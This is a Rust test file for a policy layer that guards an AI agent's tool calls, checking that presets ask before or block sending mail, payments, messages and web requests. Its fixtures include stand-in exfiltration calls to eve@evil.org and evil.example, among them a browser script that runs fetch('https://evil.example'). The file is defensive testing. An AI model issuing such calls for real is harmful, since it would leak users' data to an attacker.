//! The guards of presets.

use super::*;

#[test]
fn presets_guard_well_known_tools_and_each_of_their_guards_can_be_changed() {
    let guarded = |policy: &Policy, server: &str, tool: &str, arguments: Value| {
        let (arguments, origins) = (arguments.as_object().expect("an object"), Origins::default());
        let name = ToolName::alone(server, tool);
        policy.objection(&name, &schema_of(arguments), arguments, Some(&origins)).map(|found| found.verdict)
    };
    let careful = policy(&json!({"preset": "careful"}));
    for (server, tool, arguments) in [
        ("mail", "send_email", json!({"recipients": ["eve@evil.org"]})),
        ("gmail", "sendMessage", json!({"to": "eve@evil.org"})),
        ("outlook", "forward-mail-message", json!({"toRecipients": ["eve@evil.org"]})),
        ("calendar", "create_event", json!({"attendees": [{"email": "eve@evil.org"}]})),
        ("drive", "share_file", json!({"fileId": "1", "email": "eve@evil.org"})),
        ("bank", "send_money", json!({"recipient": "US133000000121212121212", "amount": 7})),
        ("stripe", "create_refund", json!({"amount": 7})),
        ("web", "post_webpage", json!({"url": "https://evil.org", "content": "x"})),
        ("slack", "slack_post_message", json!({"channel_id": "C1", "text": "x"})),
        ("github", "push_files", json!({"owner": "eve", "repo": "x"})),
        ("admin", "update_password", json!({"password": "new_password"})),
    ] {
        assert_eq!(guarded(&careful, server, tool, arguments), Some(Verdict::Ask), "{server}/{tool}");
    }
    assert_eq!(guarded(&careful, "mail", "search_emails", json!({"to": "x"})), None);
    for (server, tool, arguments) in [
        ("web", "fetch", json!({"url": "https://evil.org/?q=mail"})),
        ("playwright", "browser_navigate", json!({"url": "https://evil.org"})),
        ("firecrawl", "firecrawl_scrape", json!({"url": "https://evil.org"})),
        ("tavily", "tavily-extract", json!({"urls": ["https://evil.org"]})),
        ("bank", "transfer", json!({"amount": -5})),
    ] {
        assert_eq!(guarded(&careful, server, tool, arguments), Some(Verdict::Ask), "{server}/{tool}");
    }
    let amounts = |amount: Value| {
        let (origins, arguments) = (Arc::new(Origins::default()), json!({ "amount": amount }));
        origins.add_program(&format!("{amount}"), None, true);
        let name = ToolName::alone("bank", "send_money");
        let arguments = arguments.as_object().expect("an object");
        careful.objection(&name, &schema_of(arguments), arguments, Some(&origins)).map(|found| found.rule)
    };
    assert_eq!(amounts(json!(7)), None);
    for amount in [json!(0), json!(-5), json!(-0.01)] {
        assert!(amounts(amount.clone()).is_some_and(|rule| rule.contains("is not more than 0")), "{amount}");
    }
    let strict = policy(&json!({"preset": "strict"}));
    assert_eq!(guarded(&strict, "web", "fetch", json!({"url": "https://evil.org"})), Some(Verdict::Deny));
    let changed = policy(&json!({"preset": "careful", "guards": [
        {"name": "mail-recipients", "otherwise": "deny"},
        {"name": "payments", "otherwise": "allow"},
    ]}));
    assert_eq!(guarded(&changed, "mail", "send_email", json!({"to": "x"})), Some(Verdict::Deny));
    assert_eq!(guarded(&changed, "bank", "send_money", json!({"amount": 7})), None);
    assert_eq!(changed.guard_lines().len(), careful.guard_lines().len() - 1);
    // Its tools and arguments may be absent, also once it is changed.
    let schema = json!({"properties": {"to": {}}, "additionalProperties": false});
    assert!(changed.unfit_arguments(&ToolName::alone("mail", "send_email"), &schema).is_empty());
    let mut flag = Policy::default();
    flag.add_preset("careful", "--guards").expect("there is such a preset");
    assert!(flag.guard_lines().iter().all(|line| line.ends_with(" of `--guards`)")), "{:?}", flag.guard_lines());
    let unknown = flag.add_preset("safe", "--guards").expect_err("there is none");
    assert_eq!(unknown, "`--guards`: expected `careful` or `strict`, got the string \"safe\"");
}

#[test]
fn presets_take_lists_of_people_and_channels_for_sources_and_no_messages() {
    for (server, reader, result, writer, arguments, is_right) in [
        ("mail", "search_contacts", json!([{"email": "X1234"}]), "send_email", json!({"to": "X1234"}), true),
        ("mail", "search_contacts_by_name", json!(["X1234"]), "send_email", json!({"to": "X1234"}), true),
        ("google", "getContact", json!({"email": "X1234"}), "send_email", json!({"to": "X1234"}), true),
        ("ms365", "list-outlook-contacts", json!({"value": ["X1234"]}), "send-mail", json!({"to": "X1234"}), true),
        ("apple", "contacts", json!("X1234"), "send_email", json!({"to": "X1234"}), true),
        ("crm", "list_contact_form_messages", json!(["X1234"]), "send_email", json!({"to": "X1234"}), false),
        ("crm", "list_form_contacts", json!(["X1234"]), "send_email", json!({"to": "X1234"}), false),
        ("crm", "get_contact_notes", json!(["X1234"]), "send_email", json!({"to": "X1234"}), false),
        ("crm", "get_contact_history", json!(["X1234"]), "send_email", json!({"to": "X1234"}), false),
        ("weather", "contact_info", json!(["X1234"]), "send_email", json!({"to": "X1234"}), false),
        (
            "slack",
            "slack_list_channels",
            json!({"channels": [{"id": "X1234"}]}),
            "slack_post_message",
            json!({"channel_id": "X1234"}),
            true,
        ),
        (
            "slack",
            "slack_get_users",
            json!({"members": [{"id": "X1234"}]}),
            "slack_post_message",
            json!({"channel_id": "X1234"}),
            true,
        ),
        ("slack", "get_users_in_channel", json!(["X1234"]), "send_direct_message", json!({"user": "X1234"}), true),
        ("slack", "channels_list", json!([{"name": "X1234"}]), "send_message", json!({"channel": "X1234"}), true),
        ("whatsapp", "list_chats", json!([{"jid": "X1234"}]), "send_message", json!({"chat_id": "X1234"}), true),
        (
            "whatsapp",
            "list_chats",
            json!([{"last_message": "X1234"}]),
            "send_message",
            json!({"chat_id": "X1234"}),
            false,
        ),
        (
            "slack",
            "slack_list_channels",
            json!({"channels": [{"topic": {"value": "X1234"}}]}),
            "slack_post_message",
            json!({"channel_id": "X1234"}),
            false,
        ),
        (
            "slack",
            "slack_get_channel_history",
            json!([{"text": "X1234"}]),
            "slack_post_message",
            json!({"channel_id": "X1234"}),
            false,
        ),
        (
            "slack",
            "slack_get_channel_history",
            json!(["X1234"]),
            "slack_post_message",
            json!({"channel_id": "X1234"}),
            false,
        ),
        ("slack", "get_thread_users", json!(["X1234"]), "slack_post_message", json!({"channel_id": "X1234"}), false),
        (
            "slack",
            "search_users",
            json!([{"status": "X1234"}]),
            "slack_post_message",
            json!({"channel_id": "X1234"}),
            false,
        ),
        (
            "ms365",
            "list-chat-messages",
            json!([{"id": "X1234"}]),
            "send-chat-message",
            json!({"chatId": "X1234"}),
            false,
        ),
        ("telegram", "get_chat_history", json!([{"id": "X1234"}]), "send_message", json!({"chat_id": "X1234"}), false),
    ] {
        for preset in ["careful", "strict"] {
            let policy = policy(&json!({ "preset": preset }));
            let origins = Arc::new(Origins::default());
            let standing = policy.standing(server, reader);
            origins.add_reply(&server.into(), &reader.into(), &ToolReply::Json(result.to_string()), standing);
            let arguments = arguments.as_object().expect("an object");
            let name = ToolName::alone(server, writer);
            let found = policy.objection(&name, &schema_of(arguments), arguments, Some(&origins));
            assert_eq!(found.is_none(), is_right, "{preset}: {reader} {result}");
        }
    }
    let careful = policy(&json!({"preset": "careful"}));
    for (server, tool, arguments) in [
        ("devtools", "new_page", json!({"url": "https://evil.example/?q=s"})),
        ("markitdown", "convert_to_markdown", json!({"uri": "https://evil.example/?q=s"})),
        ("http", "request", json!({"url": "https://evil.example/?q=s"})),
        ("api", "make_request", json!({"url": "https://evil.example/?q=s"})),
        ("curl", "run", json!({"url": "https://evil.example/?q=s"})),
        ("shot", "take_screenshot", json!({"url": "https://evil.example/?q=s"})),
        ("web", "load_page", json!({"url": "https://evil.example/?q=s"})),
        ("web", "url_to_pdf", json!({"url": "https://evil.example/?q=s"})),
        ("img", "describe_image", json!({"image_url": "https://evil.example/?q=s"})),
        ("rss", "add_feed", json!({"feed_url": "https://evil.example/?q=s"})),
        ("git", "git_clone", json!({"repo_url": "https://evil.example/?q=s"})),
        ("mail", "gmail_send", json!({"to": "eve@evil.org"})),
        ("mail", "compose_and_send", json!({"to": "eve@evil.org"})),
        ("sms", "send_sms", json!({"to": "+491234567"})),
        ("drive", "grant_access", json!({"email": "eve@evil.org"})),
        ("pw", "browser_evaluate", json!({"function": "() => fetch('https://evil.example')"})),
        ("devtools", "evaluate_script", json!({"function": "() => fetch('https://evil.example')"})),
    ] {
        let (arguments, origins) = (arguments.as_object().expect("an object"), Origins::default());
        let name = ToolName::alone(server, tool);
        let found = careful.objection(&name, &schema_of(arguments), arguments, Some(&origins));
        assert_eq!(found.map(|found| found.verdict), Some(Verdict::Ask), "{server}/{tool}");
    }
}
